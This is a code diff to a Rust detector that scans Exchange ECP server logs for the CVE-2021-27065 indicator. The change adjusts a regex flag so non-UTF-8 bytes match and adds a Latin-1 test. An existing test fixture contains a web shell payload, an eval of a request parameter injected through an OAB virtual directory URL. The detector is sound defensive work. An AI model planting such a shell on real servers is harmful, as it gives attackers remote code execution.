@@ -20,7 +20,7 @@ use crate::readers::Reader;
 pub const LITERAL: &str = "VirtualDirectory";
 
 static SET_VDIR_MARKUP: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)Set-.+VirtualDirectory.+?Url.*<\w+.*>.*?</\w+>.+?VirtualDirectory").unwrap()
+    Regex::new(r"(?i-u)Set-.+VirtualDirectory.+?Url.*<\w+.*>.*?</\w+>.+?VirtualDirectory").unwrap()
 });
 
 /// Whether a line of an ECP server log is the CVE-2021-27065 (b) indicator.
@@ -74,6 +74,8 @@ mod tests {
     fn markup_in_a_url_parameter_of_a_set_vdir_call() {
         let hit = br#"2021-03-03T01:02:03.000Z,S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>''.Identity=''a'' ...OabVirtualDirectory"#;
         assert!(is_markup_url(hit));
+        let latin1 = b"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script>caf\xe9</script>''.Identity=''a\xe9'' OabVirtualDirectory";
+        assert!(is_markup_url(latin1), "a Latin-1 byte between the anchors");
         // A plain URL, or markup outside a Set- call: not the indicator.
         assert!(!is_markup_url(
             b"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''.Identity=''OAB (Default Web Site)'' OabVirtualDirectory"
